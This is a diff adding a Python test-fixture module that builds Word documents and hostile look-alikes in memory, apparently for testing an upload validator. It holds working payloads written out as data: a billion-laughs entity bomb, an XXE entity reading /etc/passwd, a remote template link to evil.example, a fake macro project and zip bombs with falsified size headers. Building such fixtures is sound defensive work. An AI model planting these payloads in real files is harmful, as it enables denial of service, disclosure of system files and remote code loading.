@@ -1,0 +1,338 @@
+"""Build .docx files and hostile look-alikes in memory for tests (python-docx + zipfile only).
+
+Nothing here touches the filesystem. Text is deliberately mixed Chinese/English because
+that is what our users write.
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable, Iterable
+
+from docx import Document
+from docx.document import Document as DocxDocument
+from docx.enum.style import WD_STYLE_TYPE
+from docx.opc.constants import RELATIONSHIP_TYPE as RT
+from docx.oxml import OxmlElement
+from docx.oxml.ns import qn
+from docx.text.paragraph import Paragraph
+
+MIB = 1024 * 1024
+OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+DOTX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
+XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+STRICT_OFFICE_DOCUMENT = "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"
+TRANSITIONAL_OFFICE_DOCUMENT = (
+    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
+)
+# python-docx has no constant for this one.
+ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+
+
+# ----------------------------------------------------------------------------- real documents
+
+
+def save(doc: DocxDocument) -> bytes:
+    buffer = io.BytesIO()
+    doc.save(buffer)
+    return buffer.getvalue()
+
+
+def build_docx(build: Callable[[DocxDocument], None] | None = None) -> bytes:
+    """A real .docx from python-docx's default template, shaped by `build`."""
+    doc = Document()
+    if build is not None:
+        build(doc)
+    return save(doc)
+
+
+def simple_docx() -> bytes:
+    """Two headings with Chinese and English body text."""
+
+    def build(doc: DocxDocument) -> None:
+        doc.add_heading("总则 Introduction", level=1)
+        doc.add_paragraph("本文件说明系统的目标。This document explains the goals.")
+        doc.add_heading("范围", level=2)
+        doc.add_paragraph("适用于所有部门。")
+
+    return build_docx(build)
+
+
+def set_outline_level(paragraph: Paragraph, value: int) -> None:
+    """Direct paragraph formatting <w:outlineLvl w:val=value/> (0-8 headings, 9 body text)."""
+    ppr = paragraph._p.get_or_add_pPr()
+    outline = OxmlElement("w:outlineLvl")
+    outline.set(qn("w:val"), str(value))
+    ppr.append(outline)
+
+
+def add_style_outline_level(doc: DocxDocument, name: str, value: int, base: str | None = None) -> str:
+    """A custom paragraph style carrying w:outlineLvl (like the Korean thesis template)."""
+    style = doc.styles.add_style(name, WD_STYLE_TYPE.PARAGRAPH)
+    if base is not None:
+        style.base_style = doc.styles[base]
+    ppr = style.element.get_or_add_pPr()
+    outline = OxmlElement("w:outlineLvl")
+    outline.set(qn("w:val"), str(value))
+    ppr.append(outline)
+    return name
+
+
+def add_hyperlink(paragraph: Paragraph, url: str, text: str) -> str:
+    """An external hyperlink run; returns its relationship id."""
+    rid = paragraph.part.relate_to(url, RT.HYPERLINK, is_external=True)
+    link = OxmlElement("w:hyperlink")
+    link.set(qn("r:id"), rid)
+    run = OxmlElement("w:r")
+    t = OxmlElement("w:t")
+    t.text = text
+    run.append(t)
+    link.append(run)
+    paragraph._p.append(link)
+    return rid
+
+
+def external_relationships_docx(template_url: str = "http://evil.example/t.dotm") -> bytes:
+    """A document with a remote attachedTemplate, an external OLE object and image link, and
+    two ordinary hyperlinks that must survive."""
+
+    def build(doc: DocxDocument) -> None:
+        doc.add_heading("外部链接 External links", level=1)
+        add_hyperlink(doc.add_paragraph("参见 "), "https://example.com/报告", "example")
+        add_hyperlink(doc.add_paragraph("Mail "), "mailto:someone@example.com", "someone")
+        settings_part = doc.part._settings_part
+        rid = settings_part.relate_to(template_url, ATTACHED_TEMPLATE, is_external=True)
+        attached = OxmlElement("w:attachedTemplate")
+        attached.set(qn("r:id"), rid)
+        doc.settings.element.insert(0, attached)
+        doc.part.relate_to("file:///C:/Users/x/object.xlsx", RT.OLE_OBJECT, is_external=True)
+        doc.part.relate_to("http://tracker.example/pixel.png", RT.IMAGE, is_external=True)
+
+    return build_docx(build)
+
+
+# ----------------------------------------------------------------------------- zip surgery
+
+
+def zip_members(data: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        return {info.filename: zf.read(info) for info in zf.infolist()}
+
+
+def make_zip(members: Iterable[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as zf:
+        for name, payload in members:
+            zf.writestr(name, payload)
+    return buffer.getvalue()
+
+
+def with_members(data: bytes, changes: dict[str, bytes | None]) -> bytes:
+    """Copy a zip, replacing (bytes), removing (None) or appending members."""
+    members = zip_members(data)
+    for name, payload in changes.items():
+        if payload is None:
+            members.pop(name, None)
+        else:
+            members[name] = payload
+    return make_zip(members.items())
+
+
+def with_main_content_type(data: bytes, content_type: str) -> bytes:
+    types = zip_members(data)["[Content_Types].xml"].decode()
+    return with_members(data, {"[Content_Types].xml": types.replace(DOCX_MAIN, content_type).encode()})
+
+
+def macro_enabled_docx() -> bytes:
+    """A .docm: macro-enabled main content type plus a (fake) VBA project part."""
+    data = with_main_content_type(simple_docx(), DOCM_MAIN)
+    return with_members(data, {"word/vbaProject.bin": OLE2_MAGIC + b"\x00" * 504})
+
+
+def template_dotx() -> bytes:
+    return with_main_content_type(simple_docx(), DOTX_MAIN)
+
+
+def strict_ooxml_docx() -> bytes:
+    """Package relationship of the Strict flavour, as Word writes for "Strict Open XML"."""
+    data = simple_docx()
+    rels = zip_members(data)["_rels/.rels"].decode()
+    return with_members(
+        data, {"_rels/.rels": rels.replace(TRANSITIONAL_OFFICE_DOCUMENT, STRICT_OFFICE_DOCUMENT).encode()}
+    )
+
+
+def xlsx_like() -> bytes:
+    """Minimal spreadsheet package (enough for content sniffing)."""
+    types = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="xml" ContentType="application/xml"/>'
+        f'<Override PartName="/xl/workbook.xml" ContentType="{XLSX_MAIN}"/></Types>'
+    )
+    rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{TRANSITIONAL_OFFICE_DOCUMENT}" Target="xl/workbook.xml"/>'
+        "</Relationships>"
+    )
+    workbook = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
+    return make_zip(
+        [
+            ("[Content_Types].xml", types.encode()),
+            ("_rels/.rels", rels.encode()),
+            ("xl/workbook.xml", workbook.encode()),
+        ]
+    )
+
+
+def odt_like() -> bytes:
+    """OpenDocument text: a 'mimetype' member first, no [Content_Types].xml."""
+    return make_zip(
+        [
+            ("mimetype", b"application/vnd.oasis.opendocument.text"),
+            (
+                "content.xml",
+                b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
+            ),
+        ],
+        compression=zipfile.ZIP_STORED,
+    )
+
+
+def plain_zip() -> bytes:
+    return make_zip([("notes.txt", "会议纪要".encode())])
+
+
+BILLION_LAUGHS = (
+    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
+    '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
+    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
+    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
+)
+XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+
+
+def doctype_docx(
+    declaration: str = BILLION_LAUGHS, part: str = "word/document.xml", encoding: str = "utf-8"
+) -> bytes:
+    """Insert a DOCTYPE right after the XML declaration of `part` (re-encoded if asked)."""
+    data = simple_docx()
+    xml = zip_members(data)[part].decode("utf-8")
+    end = xml.index("?>") + 2 if xml.startswith("<?xml") else 0
+    body = xml[end:]
+    if encoding == "utf-8":
+        new = xml[:end] + declaration + body
+        payload = new.encode("utf-8")
+    else:
+        head = f'<?xml version="1.0" encoding="{encoding.upper()}" standalone="yes"?>'
+        payload = (head + declaration + body).encode(encoding)
+    return with_members(data, {part: payload})
+
+
+def compressible_bomb(size: int = 16 * MIB) -> bytes:
+    """A valid document plus one huge, extremely compressible member (ratio ~1000:1)."""
+    return with_members(simple_docx(), {"word/media/zeros.bin": b"\x00" * size})
+
+
+def lying_size_bomb(actual: int = 20 * MIB, declared: int = 1000) -> bytes:
+    """A member whose central-directory and local-header sizes claim `declared` bytes while
+    its deflate stream really inflates to `actual` bytes. The CRC matches the real content."""
+    name = "word/media/payload.bin"
+    data = with_members(simple_docx(), {name: b"\x00" * actual})
+    buffer = bytearray(data)
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        info = zf.getinfo(name)
+    struct.pack_into("<I", buffer, info.header_offset + 22, declared)  # local header: uncompressed size
+    encoded = name.encode()
+    pos = buffer.find(b"PK\x01\x02")
+    while pos != -1:
+        name_len = struct.unpack_from("<H", buffer, pos + 28)[0]
+        if bytes(buffer[pos + 46 : pos + 46 + name_len]) == encoded:
+            struct.pack_into("<I", buffer, pos + 24, declared)  # central directory: uncompressed size
+            break
+        pos = buffer.find(b"PK\x01\x02", pos + 4)
+    return bytes(buffer)
+
+
+def many_members(count: int = 5001) -> bytes:
+    members = list(zip_members(simple_docx()).items())
+    members += [(f"customXml/item{i}.bin", b"x") for i in range(count)]
+    return make_zip(members)
+
+
+def truncated(data: bytes, keep: float = 0.6) -> bytes:
+    """Cut the file: the central directory at the end is lost."""
+    return data[: int(len(data) * keep)]
+
+
+def bad_crc(data: bytes, member: str = "word/document.xml") -> bytes:
+    """Store `member` uncompressed and flip one byte of it, so only the CRC can notice."""
+    members = zip_members(data)
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, payload in members.items():
+            zf.writestr(
+                name, payload, compress_type=zipfile.ZIP_STORED if name == member else zipfile.ZIP_DEFLATED
+            )
+    raw = bytearray(buffer.getvalue())
+    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as zf:
+        info = zf.getinfo(member)
+    name_len, extra_len = struct.unpack_from("<HH", raw, info.header_offset + 26)
+    start = info.header_offset + 30 + name_len + extra_len
+    target = start + info.compress_size - 20  # inside the XML, away from the declaration
+    raw[target] = ord("X") if raw[target] != ord("X") else ord("Y")
+    return bytes(raw)
+
+
+def tiny_png() -> bytes:
+    """A valid 1x1 PNG, for python-docx add_picture."""
+
+    def chunk(kind: bytes, payload: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))
+        )
+
+    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
+    pixels = zlib.compress(b"\x00\xff\x00\x00")
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
+
+
+# ----------------------------------------------------------------------------- renamed files
+
+
+def ole2(*stream_names: str) -> bytes:
+    """A CFB-looking container: the magic plus directory entry names in UTF-16-LE."""
+    body = b"".join(name.encode("utf-16-le").ljust(64, b"\x00") for name in stream_names)
+    return OLE2_MAGIC + b"\x00" * 504 + body + b"\x00" * 512
+
+
+def encrypted_docx_container() -> bytes:
+    return ole2("Root Entry", "EncryptionInfo", "EncryptedPackage", "\x06DataSpaces")
+
+
+def legacy_doc() -> bytes:
+    return ole2("Root Entry", "WordDocument", "1Table", "\x05SummaryInformation")
+
+
+PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n"
+PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
+JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!"
+ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
+RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} \\f0 Hello}"
+HTML = "<!DOCTYPE html><html><head><title>报告</title></head><body>Hi</body></html>".encode()
+TEXT = "这是一个纯文本文件。\nThis is plain text.\n".encode()
+
+
+def exe() -> bytes:
+    """Minimal PE layout: 'MZ' header whose e_lfanew points at 'PE\\0\\0'."""
+    header = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 0x3C)
+    struct.pack_into("<I", header, 0x3C, 0x80)
+    return bytes(header.ljust(0x80, b"\x00")) + b"PE\x00\x00" + b"\x00" * 64
